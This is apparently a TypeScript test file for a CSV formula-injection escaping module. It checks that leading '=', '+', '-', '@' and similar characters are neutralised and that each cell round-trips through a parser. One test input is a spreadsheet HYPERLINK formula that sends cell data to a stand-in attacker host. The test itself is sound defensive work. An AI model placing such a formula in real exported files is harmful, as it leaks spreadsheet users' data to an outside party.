import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvRow, harmless, originalOf } from './spreadsheet-cell.ts';

const TEXTS = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1',
  '-2+3',
  '@SUM(A1)',
  "'=1",
  "''=1",
  "'tis true",
  '＝1',
  '\t=1',
  'plain',
  '',
  'a "quoted", text\nof two lines',
  ' spaces ',
];

test('no cell can be run as a formula, and each can be read back', () => {
  for (const text of TEXTS) {
    assert.doesNotMatch(harmless(text), /^[=+\-@\t\r＝＋－＠]/);
    assert.equal(originalOf(harmless(text)), text);
  }
  assert.equal(harmless("'tis true"), "'tis true");
});

test('a parser reads the same cells', () => {
  const [row] = parse(csvRow(TEXTS)) as string[][];
  assert.deepEqual(row?.map(originalOf), TEXTS);
});
